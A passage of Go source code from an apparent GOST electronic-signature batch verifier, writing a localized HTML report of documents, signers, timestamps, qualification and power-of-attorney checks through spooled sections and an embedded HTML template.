			pv.More = lang.Sprintf(i18n.BatchAndMore, more)
		}
		v.Problems = append(v.Problems, pv)
	}

	return v, nil
}

// spoolLimit is how much of a section of the HTML report is held in
// memory while the documents are written; the rest waits in a temporary
// file.
const spoolLimit = 4 << 20

// spool keeps a section of the HTML report until its turn comes.
type spool struct {
	n   int // items
	buf bytes.Buffer
	f   *os.File
}

func (s *spool) Write(p []byte) (int, error) {
	if s.f == nil && s.buf.Len()+len(p) > spoolLimit {
		f, err := os.CreateTemp("", "gostverify-report-*")
		if err != nil {
			return 0, fmt.Errorf("batch: writing the HTML report: %w", err)
		}
		os.Remove(f.Name()) // gone with the process, whatever happens
		s.f = f
		if _, err := s.buf.WriteTo(f); err != nil {
			return 0, err
		}
	}
	if s.f != nil {
		return s.f.Write(p)
	}
	return s.buf.Write(p)
}

// copyTo writes what the spool keeps to w.
func (s *spool) copyTo(w io.Writer) error {
	if s.f == nil {
		_, err := s.buf.WriteTo(w)
		return err
	}
	if _, err := s.f.Seek(0, io.SeekStart); err != nil {
		return err
	}
	_, err := io.Copy(w, s.f)
	return err
}

func (s *spool) close() {
	if s.f != nil {
		s.f.Close()
	}
}

// writeHTMLEntries writes the sections of the HTML report after its head,
// reading the entries once, in path order: each document with its
// signatures (found by their paths) as it comes, the other sections held
// in spools until the documents are written. A report of a million files
// is never whole in memory.
func (r *Report) writeHTMLEntries(w io.Writer, l *htmlLabels, lang Lang) error {
	lookup, naming := r.lookup()
	// The sections after the documents, in their order.
	var attached, orphans, unreadable, refused, notChecked spool
	sections := []struct {
		heading string
		s       *spool
	}{{l.AttachedHeading, &attached}, {l.OrphansHeading, &orphans}, {l.UnreadableHeading, &unreadable},
		{l.RefusedHeading, &refused}, {l.NotCheckedHeading, &notChecked}}
	defer func() {
		for _, sec := range sections {
			sec.s.close()
		}
	}()
	put := func(s *spool, name string, data any) error {
		s.n++
		return reportTemplate.ExecuteTemplate(s, name, data)
	}
	docs := 0
	err := r.eachSorted(func(e *Entry) error {
		switch e.Kind {
		case KindDocument:
			if docs == 0 {
				if err := reportTemplate.ExecuteTemplate(w, "heading", l.DocumentsHeading); err != nil {
					return err
				}
			}
			docs++
			d := &docView{Path: displayPath(e.Path), Badge: badge(e.Status, lang)}
			d.Code, d.Meaning, d.Reason = entryExplanation(e, nil, lang)
			for _, p := range naming(e) {
				sig, err := lookup(p)
				if err != nil {
					return err
				}
				if sig != nil && sig.Kind == KindSignature && sig.Document == e.Path {
					d.Signatures = append(d.Signatures, signatureView(sig, l, lang))
				}
			}
			return reportTemplate.ExecuteTemplate(w, "document", struct {
				L   *htmlLabels
				Doc *docView
			}{l, d})
		case KindSignature:
			if e.Document != "" {
				doc, err := lookup(e.Document)
				if err != nil {
					return err
				}
				if doc != nil && doc.Kind == KindDocument {
					return nil // written with its document
				}
			}
			sv := signatureView(e, l, lang)
			switch {
			case e.Pairing == PairedAttached:
				return put(&attached, "block", sv)
			case e.Status == NotChecked:
				return put(&notChecked, "block", sv)
			default:
				return put(&orphans, "block", sv)
			}
		case KindUnreadable, KindRefused:
			ev := entryView{Path: displayPath(e.Path), Badge: badge(e.Status, lang)}
			ev.Code, ev.Meaning, ev.Reason = entryExplanation(e, nil, lang)
			if e.Kind == KindUnreadable {
				return put(&unreadable, "entry", ev)
			}
			return put(&refused, "entry", ev)
		}
		return nil
	})
	if err != nil {
		return err
	}
	for _, sec := range sections {
		if _, err := io.WriteString(w, "\n"); err != nil {
			return err
		}
		if sec.s.n == 0 {
			continue
		}
		if err := reportTemplate.ExecuteTemplate(w, "heading", sec.heading); err != nil {
			return err
		}
		if err := sec.s.copyTo(w); err != nil {
			return err
		}
	}
	_, err = io.WriteString(w, "\n</body>\n</html>\n\n\n\n")
	return err
}

// entryExplanation is an entry's sub-indication, its meaning in lang and
// the reason, with v its verify report localized (nil for none).
func entryExplanation(e *Entry, v *verify.Report, lang Lang) (code, meaningText, reason string) {
	sub, reason := e.explanation(v)
	if sub != "" {
		meaningText = meaning(sub, lang)
	}
	return string(sub), meaningText, reason
}

func signatureView(e *Entry, l *htmlLabels, lang Lang) *sigView {
	sv := &sigView{L: l, Path: displayPath(e.Path), Document: displayPath(e.Document), Badge: badge(e.Status, lang)}
	if e.Pairing != "" {
		sv.Pairing = pairingLabel(e.Pairing, lang)
	}
	if x := e.Extension; x != nil {
		sv.Extension = x.Reason
		if x.Status == Extended {
			sv.Extension = lang.Sprintf(i18n.BatchExtendedTo, x.Level, displayPath(x.Output))
		}
	}
	v := localized(e.Verification, lang)
	sv.Code, sv.Meaning, sv.Reason = entryExplanation(e, v, lang)
	if v != nil {
		sv.Warnings = v.Warnings
		details := map[*verify.SignatureReport]string{}
		if e.details != nil && e.details.Lang == lang {
			for i, s := range signersOf(v) {
				if i < len(e.details.Text) && e.details.Text[i] != "" {
					details[s] = e.details.Text[i]
				}
			}
		}
		for i := range v.Signatures {
			sv.Signers = append(sv.Signers, signerViewOf(&v.Signatures[i], l, lang, details))
		}
	}
	return sv
}

// signerViewOf is the view of signer s; details are the technical details
// of signers read from a state in the run's language (Entry.details).
func signerViewOf(s *verify.SignatureReport, l *htmlLabels, lang Lang, details map[*verify.SignatureReport]string) *signerView {
	v := &signerView{L: l, Heading: lang.Sprintf(i18n.BatchSignature, s.Position), Badge: badge(statusOf(s.Status), lang),
		Code: string(s.SubIndication), Reason: s.Reason, Detail: s.ErrorIn(lang), Warnings: s.Warnings}
	if d, ok := details[s]; ok {
		v.Detail = d
	}
	if strings.Contains(s.Position, ".") {
		v.Heading = lang.Sprintf(i18n.BatchCountersignature, s.Position)
	}
	if s.SubIndication != "" {
		v.Meaning = meaning(s.SubIndication, lang)
	}
	if p := s.Signer; p != nil {
		v.Name, v.Title, v.Organization = signerName(p), p.Title, p.Organization
		v.INN, v.INNLE, v.OGRN, v.OGRNIP, v.SNILS = p.INN, p.INNLE, p.OGRN, p.OGRNIP, p.SNILS
	} else {
		v.Name = lang.Sprintf(i18n.BatchUnknownSigner)
	}
	if s.SigningTime != nil {
		v.SigningTime = formatTime(*s.SigningTime)
	}
	for _, c := range s.Chain {
		v.Chain = append(v.Chain, c.Subject)
	}
	if rev := s.Revocation; rev.Status != "" {
		v.Revocation = revocationLabel(rev.Status, lang)
		if rev.Source != "" {
			v.Revocation += " (" + rev.Source + ")"
		}
		v.RevocationNote = rev.Reason
	}
	v.Level = s.Level
	if t := provenTime(s); t != nil {
		v.BestSignatureTime = formatTime(*t)
	}
	for _, ts := range s.Timestamps {
		tv := timestampView{Kind: timestampKind(ts.Kind, lang), TSA: ts.TSA, Badge: partBadge(ts.Status, lang)}
		if ts.Time != nil {
			tv.Time = formatTime(*ts.Time)
		}
		if ts.Status != verify.Valid {
			tv.Code, tv.Reason = string(ts.SubIndication), ts.Reason
		}
		v.Timestamps = append(v.Timestamps, tv)
	}
	for _, ly := range s.Layers {
		v.Layers = append(v.Layers, layerView{Level: ly.Level, Badge: partBadge(ly.Status, lang), Reason: ly.Reason})
	}
	v.Qualified = qualifiedViewOf(s.Qualified, lang)
	v.POA = poaViewOf(s.POA, lang)
	if p := s.PDF; p != nil {
		covers := i18n.TextPDFCoversPart
		switch {
		case p.CoversWholeFile:
			covers = i18n.TextPDFCoversFile
		case p.CoversRevision:
			covers = i18n.TextPDFCoversRevision
		}
		v.PDF = lang.Sprintf(i18n.TextPDFSignature, p.Field, p.Revision, lang.Sprintf(covers))
	}
	for i := range s.Countersignatures {
		v.Countersignatures = append(v.Countersignatures, signerViewOf(&s.Countersignatures[i], l, lang, details))
	}
	return v
}

// qualifiedBadges mark a qualified status: the class and symbol of its
// badge and its headline.
var qualifiedBadges = map[string]struct {
	class, symbol string
	m             i18n.Message
}{
	verify.StatusQualified:    {"b-valid", "✓", i18n.BatchQualifiedYes},
	verify.StatusNotQualified: {"b-indet", "✗", i18n.BatchQualifiedNo},
	verify.StatusUnknown:      {"b-other", "?", i18n.BatchQualifiedUnknown},
}

func qualifiedViewOf(q *verify.Qualification, lang Lang) *qualifiedView {
	if q == nil {
		return nil
	}
	v := &qualifiedView{Reason: q.Reason}
	if b, ok := qualifiedBadges[q.Status]; ok {
		title := lang.Sprintf(b.m)
		v.Badge = &badgeView{Class: b.class, Text: b.symbol + " " + title}
		// The reason starts with the headline the badge says.
		if n := len(title); len(q.Reason) > n+2 && strings.EqualFold(q.Reason[:n], title) && q.Reason[n:n+2] == ": " {
			v.Reason = q.Reason[n+2:]
		}
	} else {
		v.Badge = &badgeView{Class: "b-other", Text: q.Status}
	}
	if ca := q.CA; ca != nil {
		v.CA = ca.Name
		if ca.INN != "" || ca.OGRN != "" {
			v.CA += ", " + lang.Sprintf(i18n.TSLCAIDs, ca.INN, ca.OGRN)
		}
		switch {
		case ca.StatusText != "" && ca.StatusSince != nil:
			v.CAStatus = lang.Sprintf(i18n.BatchQualifiedCAStatus, ca.StatusText, formatListTime(*ca.StatusSince))
		case ca.StatusText != "":
			v.CAStatus = ca.StatusText
		}
	}
	for _, c := range q.Checks {
		var result string
		switch c.Result {
		case "failed":
			result = lang.Sprintf(i18n.BatchCheckFailed)
		case "warning":
			result = lang.Sprintf(i18n.BatchCheckWarning)
		default:
			continue
		}
		cv := checkView{Code: c.Name, Result: result}
		if lang == English { // the checks' details are English
			cv.Detail = c.Detail
		}
		v.Checks = append(v.Checks, cv)
	}
	return v
}

// provenTime is the best-signature-time of s when a timestamp proves it:
// a valid signature, CAdES-C or archive timestamp of that time (package
// verify takes the earliest of those before the validation time); nil
// otherwise, whether s has no best-signature-time or the validation time
// stands for one.
func provenTime(s *verify.SignatureReport) *time.Time {
	if s.BestSignatureTime == nil {
		return nil
	}
	for _, ts := range s.Timestamps {
		switch ts.Kind {
		case verify.KindSignature, verify.KindCAdESC, verify.KindArchive:
			if ts.Status == verify.Valid && ts.Time != nil && ts.Time.Equal(*s.BestSignatureTime) {
				return s.BestSignatureTime
			}
		}
	}
	return nil
}

// timestampKinds name the kinds of timestamp tokens (TimestampReport.Kind).
var timestampKinds = map[string]i18n.Message{
	verify.KindContent:   i18n.BatchTSKindContent,
	verify.KindSignature: i18n.BatchTSKindSignature,
	verify.KindCAdESC:    i18n.BatchTSKindCAdESC,
	verify.KindRefs:      i18n.BatchTSKindRefs,
	verify.KindArchive:   i18n.BatchTSKindArchive,
}

func timestampKind(kind string, l Lang) string { return say(timestampKinds, kind, l) }

// partBadge is the verdict on a part of a signature (a timestamp, a
// layer): valid, invalid or indeterminate in words.
func partBadge(s verify.Status, lang Lang) *badgeView {
	b, m := badgeSymbols[Indeterminate], i18n.PartIndeterminate
	switch s {
	case verify.Valid:
		b, m = badgeSymbols[Valid], i18n.PartValid
	case verify.Invalid:
		b, m = badgeSymbols[Invalid], i18n.PartInvalid
	case "":
		return nil
	}
	return &badgeView{Class: b.class, Text: b.symbol + " " + lang.Sprintf(m)}
}

var reportTemplate = template.Must(template.New("report").Parse(reportHTML))

const reportHTML = `{{define "head"}}<!DOCTYPE html>
<html lang="{{.Lang}}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{{.L.Title}}</title>
<style>
body{font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial,sans-serif;margin:2em auto;max-width:60em;padding:0 1em;color:#111;line-height:1.4}
h1{font-size:1.6em;margin-bottom:.3em}
h2{font-size:1.3em;margin-top:1.6em;border-bottom:1px solid #ccc}
h3{font-size:1.05em;margin:.2em 0 .4em}
h4{font-size:1em;margin:.6em 0 .3em}
table{border-collapse:collapse;margin:.5em 0}
th,td{border:1px solid #bbb;padding:.25em .6em;text-align:left;vertical-align:top}
td.n{text-align:right}
ul{margin:.2em 0;padding-left:1.4em}
.path{font-family:ui-monospace,Consolas,"DejaVu Sans Mono",monospace;word-break:break-all}
.badge{display:inline-block;padding:0 .45em;border:2px solid;border-radius:.3em;font-weight:bold;white-space:nowrap}
.b-valid{color:#0a5d1e;background:#e3f6e8}
.b-invalid{color:#9b1111;background:#fde8e8;border-style:double;border-width:3px}
.b-indet{color:#7a4b00;background:#fff3d6;border-style:dashed}
.b-unsigned,.b-notchecked,.b-other{color:#444;background:#eee;border-style:dotted}
.block{border:1px solid #ccc;border-radius:.4em;padding:.5em 1em;margin:1em 0;page-break-inside:avoid;break-inside:avoid}
.signature{margin:.6em 0 .2em}
.signer{border-left:3px solid #ccc;padding:.1em 0 .1em 1em;margin:.5em 0;page-break-inside:avoid;break-inside:avoid}
dl{display:grid;grid-template-columns:max-content 1fr;gap:.1em 1em;margin:.3em 0}
dt{color:#555}
dd{margin:0}
.meaning{font-weight:bold}
.detail{color:#444;font-size:.92em}
table.timestamps{margin:.1em 0;font-size:.95em}
@media print{
body{margin:0;max-width:none;font-size:10pt;color:#000}
.badge{background:none !important;color:#000 !important}
.block,.signer,tr{page-break-inside:avoid;break-inside:avoid}
h2,h3{page-break-after:avoid;break-after:avoid}
dt,.detail{color:#000}
}
</style>
</head>
<body>
<h1>{{.L.Title}}</h1>
<dl>
{{with .Started}}<dt>{{$.L.Started}}</dt><dd>{{.}}</dd>
{{end}}{{with .Finished}}<dt>{{$.L.Finished}}</dt><dd>{{.}}</dd>
{{end}}{{if .Inputs}}<dt>{{.L.Inputs}}</dt><dd>{{range .Inputs}}<div class="path">{{.}}</div>{{end}}</dd>
{{end}}{{range .Policy}}<dt>{{.Label}}</dt><dd>{{.Value}}</dd>
{{end}}{{with .Warnings}}<dt>{{$.L.Warnings}}</dt><dd><ul>{{range .}}<li>{{.}}</li>{{end}}</ul></dd>
{{end}}<dt>{{.L.Result}}</dt><dd>{{template "badge" .ResultBadge}} {{.Result}}</dd>
</dl>

<h2>{{.L.Summary}}</h2>
<table>
{{range .Counts}}<tr><th scope="row">{{.Label}}</th><td class="n">{{.N}}</td></tr>
{{end}}</table>
{{if .Problems}}
<h2>{{.L.Problems}}</h2>
<table>
<tr><th>{{.L.Code}}</th><th>{{.L.Meaning}}</th><th>{{.L.Count}}</th><th>{{.L.Paths}}</th></tr>
{{range .Problems}}<tr><td><code>{{.Code}}</code></td><td>{{.Meaning}}</td><td class="n">{{.Count}}</td><td>{{range .Paths}}<div class="path">{{.}}</div>{{end}}{{with .More}}<div>{{.}}</div>{{end}}</td></tr>
{{end}}</table>
{{end}}
{{end}}
{{define "badge"}}{{with .}}<span class="badge {{.Class}}">{{.Text}}</span>{{end}}{{end}}
{{define "heading"}}
<h2>{{.}}</h2>
{{end}}
{{define "document"}}<section class="block document">
<h3><span class="path">{{.Doc.Path}}</span>{{if not .Doc.Signatures}} {{template "badge" .Doc.Badge}}{{end}}</h3>
{{if .Doc.Code}}<p><span class="meaning">{{.Doc.Meaning}}</span> <code>{{.Doc.Code}}</code>{{with .Doc.Reason}}<br><span class="detail">{{.}}</span>{{end}}</p>
{{end}}{{if .Doc.Signatures}}{{range .Doc.Signatures}}{{template "signature" .}}{{end}}{{else}}<p>{{.L.NoSignatures}}</p>
{{end}}</section>
{{end}}
{{define "block"}}<section class="block">{{template "signature" .}}</section>
{{end}}
{{define "entry"}}<section class="block">
<h3><span class="path">{{.Path}}</span> {{template "badge" .Badge}}</h3>
{{if .Code}}<p><span class="meaning">{{.Meaning}}</span> <code>{{.Code}}</code></p>
{{end}}{{with .Reason}}<p class="detail">{{.}}</p>
{{end}}</section>
{{end}}
{{define "signature"}}<div class="signature">
<h4>{{.L.SignatureFile}}: <span class="path">{{.Path}}</span> {{template "badge" .Badge}}</h4>
<dl>
{{with .Document}}<dt>{{$.L.Document}}</dt><dd class="path">{{.}}</dd>
{{end}}{{with .Pairing}}<dt>{{$.L.Pairing}}</dt><dd>{{.}}</dd>
{{end}}{{with .Extension}}<dt>{{$.L.Extension}}</dt><dd>{{.}}</dd>
{{end}}{{if .Code}}<dt>{{.L.Verdict}}</dt><dd><span class="meaning">{{.Meaning}}</span> <code>{{.Code}}</code></dd>
{{end}}{{with .Reason}}<dt>{{$.L.Reason}}</dt><dd class="detail">{{.}}</dd>
{{end}}{{with .Warnings}}<dt>{{$.L.Warnings}}</dt><dd><ul>{{range .}}<li>{{.}}</li>{{end}}</ul></dd>
{{end}}</dl>
{{range .Signers}}{{template "signer" .}}{{end}}</div>
{{end}}
{{define "signer"}}<div class="signer">
<h4>{{.Heading}}</h4>
<dl>
<dt>{{.L.Signer}}</dt><dd>{{.Name}}</dd>
{{with .Title}}<dt>{{$.L.JobTitle}}</dt><dd>{{.}}</dd>
{{end}}{{with .Organization}}<dt>{{$.L.Organization}}</dt><dd>{{.}}</dd>
{{end}}{{with .INN}}<dt>{{$.L.INN}}</dt><dd>{{.}}</dd>
{{end}}{{with .INNLE}}<dt>{{$.L.INNLE}}</dt><dd>{{.}}</dd>
{{end}}{{with .OGRN}}<dt>{{$.L.OGRN}}</dt><dd>{{.}}</dd>
{{end}}{{with .OGRNIP}}<dt>{{$.L.OGRNIP}}</dt><dd>{{.}}</dd>
{{end}}{{with .SNILS}}<dt>{{$.L.SNILS}}</dt><dd>{{.}}</dd>
{{end}}<dt>{{.L.SigningTime}}</dt><dd>{{or .SigningTime .L.None}}</dd>
<dt>{{.L.Verdict}}</dt><dd>{{template "badge" .Badge}}{{with .Meaning}} <span class="meaning">{{.}}</span>{{end}}{{with .Code}} <code>{{.}}</code>{{end}}</dd>
{{with .Reason}}<dt>{{$.L.Reason}}</dt><dd class="detail">{{.}}</dd>
{{end}}{{with .Detail}}<dt>{{$.L.Detail}}</dt><dd class="detail">{{.}}</dd>
{{end}}<dt>{{.L.Chain}}</dt><dd>{{if .Chain}}<ol>{{range .Chain}}<li>{{.}}</li>{{end}}</ol>{{else}}{{.L.None}}{{end}}</dd>
{{with .Revocation}}<dt>{{$.L.Revocation}}</dt><dd>{{.}}{{with $.RevocationNote}}<br><span class="detail">{{.}}</span>{{end}}</dd>
{{end}}{{with .Level}}<dt>{{$.L.Form}}</dt><dd>{{.}}</dd>
{{end}}{{with .BestSignatureTime}}<dt>{{$.L.BestSignatureTime}}</dt><dd>{{.}}</dd>
{{end}}{{with .Timestamps}}<dt>{{$.L.Timestamps}}</dt><dd><table class="timestamps">
<tr><th>{{$.L.TimestampKind}}</th><th>{{$.L.TimestampTime}}</th><th>{{$.L.TSA}}</th><th>{{$.L.Verdict}}</th></tr>
{{range .}}<tr><td>{{.Kind}}</td><td>{{or .Time $.L.None}}</td><td>{{or .TSA $.L.None}}</td><td>{{template "badge" .Badge}}{{with .Code}} <code>{{.}}</code>{{end}}{{with .Reason}}<br><span class="detail">{{.}}</span>{{end}}</td></tr>
{{end}}</table></dd>
{{end}}{{with .Layers}}<dt>{{$.L.Layers}}</dt><dd><ul>{{range .}}<li>{{.Level}}: {{template "badge" .Badge}}{{with .Reason}} <span class="detail">{{.}}</span>{{end}}</li>{{end}}</ul></dd>
{{end}}{{with .PDF}}<dt>PDF</dt><dd>{{.}}</dd>
{{end}}{{with .POA}}<dt>{{$.L.POA}}</dt><dd>{{template "badge" .Badge}} <code>{{.Number}}</code>{{with .Reason}}<br><span class="detail">{{.}}</span>{{end}}{{with .Parties}}<br>{{.}}{{end}}{{with .Powers}}<br>{{$.L.POAPowers}}: <code>{{.}}</code>{{end}}{{with .Registry}}<br>{{$.L.POARegistry}}: {{.}}{{end}}</dd>
{{end}}{{with .Qualified}}<dt>{{$.L.Qualified}}</dt><dd>{{template "badge" .Badge}}{{with .Reason}}<br><span class="detail">{{.}}</span>{{end}}{{with .CA}}<br>{{$.L.QualifiedCA}}: {{.}}{{end}}{{with .CAStatus}}; {{.}}{{end}}{{with .Checks}}<br>{{$.L.QualifiedChecks}}: {{range $i, $c := .}}{{if $i}}; {{end}}<code>{{$c.Code}}</code> ({{$c.Result}}){{with $c.Detail}}: <span class="detail">{{.}}</span>{{end}}{{end}}{{end}}</dd>
{{end}}{{with .Warnings}}<dt>{{$.L.Warnings}}</dt><dd><ul>{{range .}}<li>{{.}}</li>{{end}}</ul></dd>
{{end}}</dl>
{{range .Countersignatures}}{{template "signer" .}}{{end}}</div>
{{end}}`
